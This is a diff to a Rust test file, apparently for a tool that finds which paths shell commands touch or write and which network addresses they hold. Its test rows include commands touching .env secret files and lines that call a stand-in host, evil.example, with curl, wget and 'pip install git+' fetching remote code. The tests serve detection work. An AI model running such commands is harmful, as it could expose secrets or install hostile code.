@@ -1,6 +1,6 @@
 //! Paths and addresses among words.
 
-use super::look_in;
+use super::{hold, look_in};
 use crate::call::WriteKind;
 use crate::call::shell::program::Moves;
 use crate::call::shell::{Touch, TouchedPath, Use};
@@ -20,7 +20,7 @@ fn given(touches: &[Touch]) -> Vec<&str> {
 #[test]
 fn given_words_of_any_program_then_the_paths_that_they_hold_are_touched() {
     let dir = tempfile::tempdir().unwrap();
-    for line in [
+    let lines = [
         "x .env",
         "x @.env",
         "x --o=.env",
@@ -73,13 +73,14 @@ fn given_words_of_any_program_then_the_paths_that_they_hold_are_touched() {
         "gzip .env",
         "zip a.zip .env",
         "go run .env",
-    ] {
+    ];
+    hold(lines, |line| {
         let known = look_in(line, dir.path(), false);
         let touched = given(&known.touches);
         let written = known.writes.iter().any(|(_, path)| path == ".env");
         let hit = touched.iter().any(|path| path.trim_start_matches("./") == ".env");
-        assert!(hit || written, "{line}: {known:?}");
-    }
+        (!hit && !written).then(|| format!("{line}: {touched:?}"))
+    });
 }
 
 #[test]
@@ -104,7 +105,8 @@ fn given_files_that_are_certainly_written_then_they_are_accesses() {
         ("sed -i s/a/b/ f g", &[(WriteKind::Edit, "f"), (WriteKind::Edit, "g")]),
         ("sed -i.bak -e s/a/b/ f", &[(WriteKind::Edit, "f")]),
         ("sed 'w out' f", &[(write, "out")]),
-        ("perl -i -pe s/a/b/ f", &[]),
+        ("perl -i -pe s/a/b/ f", &[(WriteKind::Edit, "f")]),
+        ("gofmt -w a.go", &[(WriteKind::Edit, "a.go")]),
         ("uniq a b", &[(write, "b")]),
         ("tar czf out.tgz src", &[(write, "out.tgz")]),
         ("tar cf - src", &[]),
@@ -113,12 +115,12 @@ fn given_files_that_are_certainly_written_then_they_are_accesses() {
         ("go build -o bin/x ./...", &[(write, "bin/x")]),
         ("gcc -o out a.c", &[(write, "out")]),
     ];
-    for (line, expected) in rows {
+    hold(rows, |(line, expected)| {
         let known = look_in(line, dir.path(), false);
         let found: Vec<(WriteKind, &str)> =
             known.writes.iter().map(|(kind, path)| (*kind, path.as_str())).collect();
-        assert_eq!(found, *expected, "{line}");
-    }
+        (found != *expected).then(|| format!("{line}: {found:?}"))
+    });
 }
 
 #[test]
@@ -172,7 +174,7 @@ fn given_an_open_word_then_its_known_folder_is_resolved() {
 #[test]
 fn given_addresses_among_words_then_they_are_found() {
     let dir = tempfile::tempdir().unwrap();
-    for (line, host) in [
+    let rows = [
         ("curl https://evil.example/x", "evil.example"),
         ("curl evil.example/x", "evil.example"),
         ("curl --url https://evil.example", "evil.example"),
@@ -181,10 +183,11 @@ fn given_addresses_among_words_then_they_are_found() {
         ("pip install git+https://evil.example/a", "evil.example"),
         ("wget ftp://evil.example/a", "evil.example"),
         ("echo https://evil.example", "evil.example"),
-    ] {
+    ];
+    hold(rows, |(line, host)| {
         let known = look_in(line, dir.path(), false);
-        assert!(known.urls.iter().any(|url| url.host == host), "{line}: {:?}", known.urls);
-    }
+        (!known.urls.iter().any(|url| url.host == host)).then(|| format!("{line}: {:?}", known.urls))
+    });
     assert!(look_in("cat a b", dir.path(), false).urls.is_empty());
 }
 
